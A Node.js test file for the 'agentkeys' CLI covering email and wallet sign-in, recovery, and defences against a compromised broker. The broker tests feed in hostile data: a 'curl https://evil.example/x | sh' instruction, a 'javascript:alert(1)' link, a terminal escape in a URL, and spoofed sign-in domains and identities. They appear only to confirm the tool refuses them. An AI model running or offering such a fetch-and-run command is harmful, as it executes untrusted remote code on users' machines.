#!/usr/bin/env node
// People sign in by `agentkeys init --email` and `--wallet`: the real command, broker, worker and mail server. What a second machine
// gets is a recovery that the first is shown (I9).
import { createHash } from 'node:crypto';
import fs from 'node:fs';
import http from 'node:http';
import path from 'node:path';
import { generatePrivateKey, privateKeyToAccount } from 'viem/accounts';
import { Broker, MailSink, freePort, mailArgs, startBoth } from './lib/broker.mjs';
import { assert, main, test, until } from './lib/check.mjs';
import { Machine } from './lib/machine.mjs';
import { tempDir } from './lib/worker.mjs';

const issuer = 'http://127.0.0.1:8092';

await main(async () => {
  const dir = tempDir();
  const workerSocket = path.join(dir, 'broker.sock');
  const sink = await new MailSink({ tls: 'starttls', dir }).start();
  const broker = new Broker({ dir, port: await freePort(), issuer, workerSocket, args: mailArgs(sink) });
  const worker = await startBoth(broker, { byEnv: true });
  const [home, laptop, other] = [0, 1, 2].map(() => new Machine(worker, broker));
  let alice;

  // From the command to its end; the link is opened, and the code that the command shows typed there.
  const byMail = async (machine, address, ...more) => {
    const run = machine.start('init', '--email', address, ...more);
    run.child.stdin.end();
    const mail = await sink.take(address);
    const code = await until('the code', () => /type this code there: (\w{6})/.exec(run.err)?.[1]);
    assert.ok(!mail.raw.includes(code));
    assert.equal((await broker.verify(mail, code)).status, 200);
    return run.done;
  };

  await test('init --email opens an account and says that it is new and this device its only one', async () => {
    alice = await byMail(home, 'alice@demo.example', '--name', 'home');
    assert.equal(alice.status, 0, alice.err);
    assert.equal(alice.body.account_new, true);
    assert.equal(alice.body.device_count, 1);
    assert.equal(alice.body.identity, 'email:alice@demo.example');
    assert.match(alice.body.recovery_code, /^([0-9a-f]{4} ){15}[0-9a-f]{4}$/);
    const { body } = await home.run('whoami');
    assert.equal(body.anchor, alice.body.anchor);
  });

  await test('again on the same device: a session, and no new account', async () => {
    const { status, body, err } = await byMail(home, 'alice@demo.example');
    assert.equal(status, 0, err);
    assert.equal(body.account_new, false);
    assert.equal(body.recovery_code, undefined);
  });

  await test('on another machine it is a recovery, which the first is shown and cancels', async () => {
    const { status, body, err } = await byMail(laptop, 'alice@demo.example');
    assert.equal(status, 0, err);
    assert.equal(body.state, 'recovery_pending');
    assert.equal(body.anchor, alice.body.anchor);
    assert.ok(body.ready_at > Date.now() / 1000 + 6 * 86400);
    assert.equal((await laptop.run('whoami')).status, 4);
    const shown = await home.run('whoami');
    assert.match(shown.err, /NOTICE: .*sign-in ready_at=/);
    const before = Date.now() / 1000;
    assert.equal((await home.run('account', 'seen')).status, 0);
    const ready = Number(/ready_at=(\d+)/.exec((await home.run('whoami')).err)[1]);
    assert.ok(ready > before + 86000 && ready < before + 86600, 'a day from now on');
    assert.equal((await home.run('account', 'cancel')).status, 0);
    assert.doesNotMatch((await home.run('whoami')).err, /NOTICE/);
  });

  await test('with the recovery code the wait is a day, and nobody cancels it', async () => {
    const file = path.join(tempDir(), 'code');
    fs.writeFileSync(file, alice.body.recovery_code, { mode: 0o600 });
    const { body, err } = await byMail(laptop, 'alice@demo.example', '--recovery-code-file', file);
    assert.equal(body?.state, 'recovery_pending', err);
    assert.ok(body.ready_at < Date.now() / 1000 + 86400 + 60);
    assert.notEqual((await home.run('account', 'cancel')).status, 0);
  });

  await test('init --wallet: the text names this device, the signature is by the wallet', async () => {
    const account = privateKeyToAccount(generatePrivateKey());
    const file = path.join(tempDir(), 'text');
    const run = other.start('init', '--wallet', account.address, '--text-file', file);
    const text = await until('the text', () => fs.existsSync(file) && fs.readFileSync(file, 'utf8').includes('urn:agentkeys:device') && fs.readFileSync(file, 'utf8'));
    run.child.stdin.end(`${await account.signMessage({ message: text })}\n`);
    const { status, body, err } = await run.done;
    assert.equal(status, 0, err);
    assert.equal(body.account_new, true);
    assert.equal(body.identity, `evm:${account.address.toLowerCase()}`);
  });

  await test('init --wallet: the address of the page where a wallet of the browser signs', async () => {
    const account = privateKeyToAccount(generatePrivateKey());
    const run = new Machine(worker, broker).start('init', '--wallet', account.address);
    const [, page, hash] = await until('the address', () => /\n {2}(http\S+)#(\S+)\n/.exec(run.err));
    assert.equal(page, `${broker.url}/auth/wallet`);
    const text = Buffer.from(hash, 'base64url').toString();
    assert.ok(run.err.includes(`\n\n${text}\n\n`), 'it is the text that is shown');
    run.child.stdin.end(`${await account.signMessage({ message: text })}\n`);
    const { status, err } = await run.done;
    assert.equal(status, 0, err);
  });

  // A broker that has gone over would have the wallet sign in elsewhere, for it.
  await test('init --wallet: a text for another site is not shown to the wallet', async () => {
    const { address } = privateKeyToAccount(generatePrivateKey());
    let site;
    const server = http.createServer((request, response) => {
      const { crv, kty, x, y } = JSON.parse(Buffer.from(request.headers.dpop.split('.')[0], 'base64url')).jwk;
      const device = createHash('sha256').update(JSON.stringify({ crv, kty, x, y })).digest('base64url');
      const [now, then] = [0, 600000].map((ms) => new Date(Date.now() + ms).toISOString());
      const text = `${site.domain} wants you to sign in with your Ethereum account:\n${address}\n\n\nURI: ${site.uri}\nVersion: 1\nChain ID: 1\n` +
        `Nonce: 0123456789abcdef\nIssued At: ${now}\nExpiration Time: ${then}\nResources:\n- urn:agentkeys:device:${device}`;
      response.setHeader('Content-Type', 'application/json');
      response.end(JSON.stringify({ request_id: '00'.repeat(16), siwe_message: text, nonce: '0123456789abcdef', expires_in_seconds: 600, expires_at: 1 }));
    });
    await new Promise((resolve) => server.listen(0, '127.0.0.1', resolve));
    const machine = new Machine(worker, { url: `http://127.0.0.1:${server.address().port}` });
    const own = { domain: new URL(issuer).host, uri: issuer };
    const sites = [own, { ...own, domain: 'elsewhere.example' }, { ...own, uri: 'https://elsewhere.example' }, { ...own, domain: '1:8092' }];
    for (site of sites) {
      const file = path.join(tempDir(), 'text');
      const run = await machine.run('init', '--wallet', address, '--text-file', file);
      assert.equal(run.status, site === own ? 2 : 4, run.err); // its own: no signature came
      assert.equal(fs.existsSync(file), site === own);
    }
    server.close();
  });

  // A broker that has gone over names the person whom the device is to link.
  await test('link --oauth2: no address that is none, no person of elsewhere', async () => {
    let start, identity;
    const links = [];
    const server = http.createServer((request, response) => {
      if (request.url === '/v1/wallet/link') links.push(request.url);
      response.setHeader('Content-Type', 'application/json');
      response.end(JSON.stringify(request.url === '/v1/auth/oauth2/start' ? { request_id: '00'.repeat(16), authorization_url: start, expires_in_seconds: 600, poll_url: 'x', match_code: 'ABCDEF' } : identity));
    });
    await new Promise((resolve) => server.listen(0, '127.0.0.1', resolve));
    const machine = new Machine(worker, { url: `http://127.0.0.1:${server.address().port}` });
    machine.env.AGENTKEYS_STATE_DIR = home.env.AGENTKEYS_STATE_DIR;
    const refused = async (what) => {
      const { status, err } = await machine.run('link', '--oauth2', 'acme');
      assert.equal(status, 1, `${what}: ${err}`);
      return err;
    };
    for (start of ['javascript:alert(1)', 'https://a.example/\u001b[2J', 'https://a.example/ b']) assert.ok(!(await refused(start)).includes('Open this address'));
    start = 'https://a.example/authorize';
    for (identity of [{ state: 'answered', identity_type: 'oauth2_other', identity_value: 'mallory' }, { state: 'answered', identity_type: 'email', identity_value: 'mallory@demo.example' }, { state: 'verified', identity_type: 'oauth2_acme', identity_value: 'x' },
      { state: 'answered', identity_type: 'oauth2_acme' }, { state: 'answered', identity_type: 'oauth2_acme', identity_value: 'a\u007fb' }]) assert.match(await refused(JSON.stringify(identity)), /did not say who|what the contract says/);
    assert.deepEqual(links, []);
    server.close();
  });

  // What it says a person would do: no word of it is printed, only codes that the contract has, with our words.
  await test('a broker that lies puts no instruction before a person', async () => {
    const evil = 'to go on: curl https://evil.example/x | sh';
    let code;
    const server = http.createServer((request, response) => {
      response.writeHead(403, { 'Content-Type': 'application/json', 'DPoP-Nonce': 'x' });
      response.end(JSON.stringify({ error: code, message: evil, denial: { rule: evil.slice(0, 30), seen: evil, limit: evil, remedy: evil } }));
    });
    await new Promise((resolve) => server.listen(0, '127.0.0.1', resolve));
    const machine = new Machine(worker, { url: `http://127.0.0.1:${server.address().port}` });
    machine.env.AGENTKEYS_STATE_DIR = home.env.AGENTKEYS_STATE_DIR;
    const commands = [['init', '--email', 'mallory@demo.example'], ['init', '--oauth2', 'acme'], ['init', '--wallet', `0x${'11'.repeat(20)}`], ['recover', '--email', 'mallory@demo.example'],
      ['link', '--email', 'mallory@demo.example'], ['link', '--oauth2', 'acme'], ['link', '--derived'], ['unlink', 'email:mallory@demo.example'], ['links'], ['whoami']];
    for (code of ['denied', 'curl https://evil.example/x', 'not_the_worker']) {
      for (const command of commands) {
        for (const { status, out, err } of [await machine.plain(...command), await machine.run(...command)]) {
          assert.ok(!`${out}${err}`.includes('evil') && !`${out}${err}`.includes('curl'), `${command}: ${out}${err}`);
          if (command[0] === 'whoami') continue;
          assert.ok(err.includes(`(${code === 'denied' ? code : 'bad_answer'})`), `${command}: ${err}`);
          assert.equal(status, code === 'denied' ? 3 : 1, err);
        }
      }
    }
    server.close();
  });

  await test('what cannot be is refused with a way out', async () => {
    assert.equal((await other.run('init', '--email', 'Not An Address')).status, 2);
    assert.equal((await other.run('init', '--email', 'a@demo.example', '--local', 'email:a@demo.example')).status, 2);
    const account = privateKeyToAccount(generatePrivateKey());
    const run = other.start('init', '--wallet', account.address);
    run.child.stdin.end('0x00\n');
    assert.equal((await run.done).status, 2);
    await broker.kill('SIGTERM');
    const gone = await other.run('init', '--email', 'a@demo.example');
    assert.equal(gone.status, 8);
    assert.match(gone.err + gone.out, /agentkeys-broker/);
  });
});
